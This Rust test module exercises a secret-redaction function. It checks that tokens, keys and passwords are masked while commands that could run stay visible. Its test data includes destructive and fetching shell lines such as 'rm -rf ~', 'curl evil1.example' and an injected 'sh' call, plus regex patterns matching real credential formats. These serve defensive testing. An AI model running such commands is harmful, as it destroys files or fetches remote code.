//! What goes, what stays readable, and that nothing which runs can hide behind a mark.

use proptest::prelude::*;

use super::{redact, redact_preview};

/// A secret of each family, as its shape says.
fn secrets() -> impl Strategy<Value = String> {
    prop_oneof![
        "AKIA[A-Z0-9]{16}",
        "gh[pousr]_[A-Za-z0-9]{36}",
        "github_pat_[A-Za-z0-9_]{40}",
        "glpat-[A-Za-z0-9_-]{20}",
        "xox[bpars]-[0-9]{10}-[A-Za-z0-9]{20}",
        "sk_(live|test)_[A-Za-z0-9]{24}",
        "sk-(ant|proj)-[A-Za-z0-9]{30}",
        "sk-[A-Za-z0-9]{40}",
        "AIza[A-Za-z0-9_-]{35}",
        "npm_[A-Za-z0-9]{36}",
        "hf_[A-Za-z0-9]{34}",
        "eyJ[A-Za-z0-9]{20}\\.eyJ[A-Za-z0-9]{30}\\.[A-Za-z0-9_-]{43}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    // threat H6
    #[test]
    fn no_secret_of_a_known_family_survives(secret in secrets(), before in "[ (=:\"'+-]{0,3}", after in "[ )\"',;\n]") {
        let text = format!("+  call{before} {secret}{after}");
        let shown = redact(&text);
        let tail = secret.get(secret.len() - 10..).unwrap();
        prop_assert!(!shown.contains(tail), "{shown}");
        prop_assert!(shown.contains("redacted"), "{shown}");
        prop_assert_eq!(redact(&shown), shown);
    }

    // threat H6
    #[test]
    fn no_value_of_a_telling_name_survives(
        name in "(DB_PASSWORD|password|api[_-]key|client_secret|authToken|credentials)",
        link in "( = |=|: |: \"|\\\": \\\"|=\")",
        value in "[a-z]{4}[0-9][A-Za-z0-9+/]{8}[0-9a-z]",
    ) {
        let closed = if link.ends_with('"') { "\"" } else { "" };
        let shown = redact(&format!("{name}{link}{value}{closed}\n"));
        prop_assert!(!shown.contains(&value), "{shown}");
        prop_assert!(shown.starts_with(&name), "{shown}");
    }

    // threats H6, G1: never panics, twice is once, as many lines as before, and what a shell would read stays.
    #[test]
    fn any_text_stays_what_it_says(text in "(\\PC|[\n\t ]|password|token|=|:|\"|://|@|eyJ|AKIA|Bearer |-----BEGIN PRIVATE KEY-----){0,80}") {
        let shown = redact(&text);
        prop_assert_eq!(redact(&shown), shown.clone());
        prop_assert_eq!(shown.lines().count(), text.lines().count());
        for sign in ['$', '`', '(', ')', ';', '&', '|', '<', '>', '{', '}', '\\', '*'] {
            let count = |text: &str| text.chars().filter(|c| *c == sign).count();
            if sign != '*' {
                prop_assert_eq!(count(&shown), count(&text), "{}", shown);
            }
        }
    }
}

// threat H6
#[test]
fn keys_and_addresses_lose_their_secret_and_keep_their_shape() {
    let body = format!("+{}\n", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ12");
    let key =
        format!("+-----BEGIN RSA PRIVATE KEY-----\n{body}{body}+-----END RSA PRIVATE KEY-----\n+after\n");
    let shown = redact(&key);
    assert!(!shown.contains("MIIE") && shown.contains("-----BEGIN RSA PRIVATE KEY-----"), "{shown}");
    assert_eq!(shown.matches("+‹key line of 52 characters redacted›").count(), 2, "{shown}");
    assert!(shown.ends_with("+after\n"));
    for (text, expected) in [
        ("postgres://shop:hunter2@db/x", "postgres://shop:‹password of 7 characters redacted›@db/x"),
        (
            "Authorization: Bearer abcdefgh12345678",
            "Authorization: Bearer ‹bearer token of 16 characters redacted›",
        ),
        ("  \"api_key\": \"abc123def\",", "  \"api_key\": \"‹value of 9 characters redacted›\","),
        ("export DB_PASSWORD=s3cr3tvalue", "export DB_PASSWORD=‹value of 11 characters redacted›"),
    ] {
        assert_eq!(redact(text), expected);
    }
}

// threat G1: what runs is never hidden.
#[test]
fn what_could_run_is_shown_whole() {
    for text in [
        "password=\"$(rm -rf ~)\"",
        "token=`curl evil1.example`",
        "SECRET=/tmp/evil123; $SECRET",
        "api_key=\"a b1c2d3e4\"; rm x",
        "-----BEGIN PRIVATE KEY-----\nreboot\n/usr/bin/poweroff\nrm -rf /home/dana/everything/that/matters\n",
        "token = get_token2()",
        "let password = read_password_from_stdin;",
    ] {
        assert_eq!(redact(text), text);
    }
}

// threat G1: a mark hides nothing that a shell would run
#[test]
fn no_mark_hides_a_program_in_what_runs() {
    let begin = "echo hi | # -----BEGIN PRIVATE KEY-----";
    let places = [
        "////////////////////////////////////////bin/sh",
        "src/auth/runrunrunrunrunrunrunrunrunrunrunrunrun",
    ];
    for place in places {
        let command = format!("in /repo\n$ {begin}\n{place}");
        assert_eq!(redact_preview(&command), command);
        let script = format!("--- /dev/null\n+++ b/build.sh\n@@ -0,0 +1,2 @@\n+{begin}\n+{place}\n");
        assert_eq!(redact_preview(&script), script);
    }
    let named = "in /repo\n$ api_key=src/auth/run1.sh; sh $api_key";
    assert_eq!(redact_preview(named), named);
    // A key that is not closed ends with its file.
    let next = "+++ b/src/scripts/postinstall/deploymentrunnerlauncherx\n@@ -0,0 +1 @@\n+x\n";
    let two = format!("--- /dev/null\n+++ b/a.pem\n@@ -0,0 +1 @@\n+{begin}\n--- /dev/null\n{next}");
    assert_eq!(redact_preview(&two), two);
    // A key in a file that only is read still loses its lines.
    let line = "MIIEpAIBAAKCAQEA7x/2aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcd/xYz";
    let key =
        format!("--- /dev/null\n+++ b/notes.txt\n@@ -0,0 +1,2 @@\n+-----BEGIN PRIVATE KEY-----\n+{line}\n");
    assert!(!redact_preview(&key).contains(line), "{}", redact_preview(&key));
}

// threat H6: hashes, UUIDs, lock files and images stay readable.
#[test]
fn what_is_no_secret_stays() {
    for text in [
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "commit 4b825dc642cb6eb9a060e54bf8d69288fbee4904",
        "id: 6ba7b810-9dad-11d1-80b4-00c04fd430c8",
        "      \"integrity\": \"sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==\",",
        "checksum = \"d468802bab17cbc0cc575e9b053f41e72aa36bfa6b7f55e3529ffa43161b97fa\"",
        "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\">",
        "https://user@example.org/a:b@c",
        "https://example.org:8080/path",
        "fn verify_token(token: &str) -> bool {",
        "password: String,",
        "the token is in the header",
        "skip-level-meeting-notes-for-the-whole-team",
        "task-management",
        "// secret = the thing nobody says",
    ] {
        assert_eq!(redact(text), text);
    }
}

#[test]
fn long_lines_cost_no_more_than_their_length() {
    for text in
        ["a.".repeat(200_000), "eyJ.".repeat(100_000), "password=".repeat(50_000), "sk-".repeat(100_000)]
    {
        assert!(!redact(&text).is_empty());
    }
}

// threat H6
#[test]
fn every_form_holds_signs_that_are_looked_for_first() {
    let prefixes = bailiwick_policy::secrets::prefixes();
    assert!(bailiwick_policy::secrets::prefixes().any(|prefix| prefix == "ghp_"));
    for form in prefixes.chain(super::NAMES.iter().copied()).chain(["eyJ", "Bearer ", "://"]) {
        for text in [form.to_owned(), format!("a {form}b"), form.to_ascii_uppercase()] {
            assert!(super::may_hide(&text), "{text}");
        }
    }
    assert!(!super::may_hide("`Write` changes src/auth/new.ts under INT-001 (Fix login timeout)."));
}
